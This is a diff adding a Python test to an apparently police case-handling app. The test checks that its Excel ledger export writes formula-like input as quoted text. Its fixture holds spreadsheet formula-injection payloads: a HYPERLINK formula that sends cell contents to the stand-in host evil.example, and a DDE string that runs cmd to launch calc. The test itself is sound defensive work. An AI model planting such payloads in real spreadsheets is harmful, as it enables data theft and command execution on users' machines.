@@ -151,3 +151,46 @@ def test_monthly_report_runs_once_on_the_first_working_day(store: Store, october
     # Another process (or a restart) in the same slot does nothing.
     assert Scheduler(store, rec_config(report_dir=str(tmp_path / "reports"))).run_monthly_report(
         bj(2026, 11, 2, 10)) == []
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "leader": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "unit": "+1+cmd",
+    "title": "-2+3",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def test_the_ledger_writes_formula_like_text_as_text(tmp_path: Path) -> None:
+    """Names, units and case data typed by anyone never become live formulas in the leader's 台账 (issue 9)."""
+    from datetime import datetime
+
+    from caseflow.calendar import ZONE
+    from caseflow.clock import FixedClock
+    from caseflow.engine import Engine
+
+    store = Store(f"sqlite:///{tmp_path / 'c.db'}")
+    engine = Engine(store, clock=FixedClock(datetime(2026, 10, 9, 9, tzinfo=ZONE)))
+    engine.add_person("l1", name=HOSTILE["leader"], unit=HOSTILE["unit"], roles=["station_leader"])
+    engine.add_person("p1", name=HOSTILE["name"], unit=HOSTILE["unit"], roles=["household_police"], leader="l1")
+    engine.open("hukou_transfer", actor="p1", data={"title": HOSTILE["title"], "a": HOSTILE["tab"],
+                                                     "b": HOSTILE["cr"]})
+    rows = ledger_rows(store, HOSTILE["unit"], "2026-10")
+    assert len(rows) == 1
+    path = write_ledger(rows, tmp_path / "ledger.xlsx", unit=HOSTILE["unit"], month="2026-10")
+    sheet = load_workbook(path).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value: c for c in cells}
+    for text in (HOSTILE["name"], HOSTILE["leader"], HOSTILE["unit"]):
+        assert values[text].data_type == "s" and values[text].quotePrefix
+    assert sheet["A1"].value.startswith(HOSTILE["unit"]) and sheet["A1"].quotePrefix
+    summary = next(c for c in cells if isinstance(c.value, str) and "-2+3" in c.value)
+    assert summary.data_type == "s"
+    # numbers stay numbers; ordinary text is not quote-prefixed
+    assert isinstance(sheet["A3"].value, int) and not sheet["A3"].quotePrefix
+    assert not sheet["A2"].quotePrefix
+    store.dispose()
